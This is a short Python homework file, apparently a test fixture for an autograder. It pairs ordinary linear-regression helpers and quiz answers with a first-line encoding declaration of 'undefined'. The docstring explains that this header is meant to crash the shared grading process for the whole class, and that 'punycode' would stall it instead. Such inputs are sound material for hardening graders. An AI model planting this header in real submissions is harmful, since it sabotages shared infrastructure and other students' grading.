# -*- coding: undefined -*-
"""Says that it is written in an encoding of Python's own, whose decoder fails as no other does.

Hand-ins are read in the process that grades everybody: an error that is not expected there ends the whole class's
grading before it began. Its neighbour `punycode` would stall it, because it takes the square of the length.
"""

import torch


def synthetic_data(w, b, num_examples):
    X = torch.normal(0, 1, (num_examples, len(w)))
    y = X @ w + b
    return X, (y + torch.normal(0, 0.01, y.shape)).reshape(-1, 1)


def squared_loss(y_hat, y):
    return (y_hat - y.reshape(y_hat.shape)) ** 2 / 2


def sgd(params, lr, batch_size):
    with torch.no_grad():
        for param in params:
            param -= lr * param.grad / batch_size
            param.grad.zero_()


broadcasting_answer = "B"
weight_shape = (8, 1)
bias_shape = (1,)
